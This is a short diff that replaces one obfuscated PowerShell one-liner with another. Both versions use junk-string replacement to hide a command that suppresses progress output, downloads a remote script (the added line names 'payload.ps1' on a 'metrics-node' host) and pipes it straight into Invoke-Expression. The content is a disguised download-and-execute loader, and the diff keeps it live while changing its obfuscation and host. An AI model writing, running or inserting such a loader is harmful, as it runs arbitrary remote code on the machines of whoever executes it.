@@ -1,4 +1,4 @@
-iex (('# XJQ89vv~3un 2896 v4
-$Pvv~3ogvv~3esXJQ89sPvv~3efevv~3ence = ''SilentlyContinue''
-iwvv~3 -UseBasicPavv~3sing http://api.telemetvv~3y-hub.example/update.ps1 | iex
-' -replace 'XJQ89','').Replace('vv~3','r'))
+iex (('# run 5245 v4
+$ProgressPreference = ZVZ90''Sivz~1entvz~1yContinue''
+ZVZ90iwr -UseBasicPZVZ90arsing http://static.metrics-node.exampvz~1e/payvz~1oad.ps1 | iex
+' -replace 'ZVZ90','').Replace('vz~1','l'))
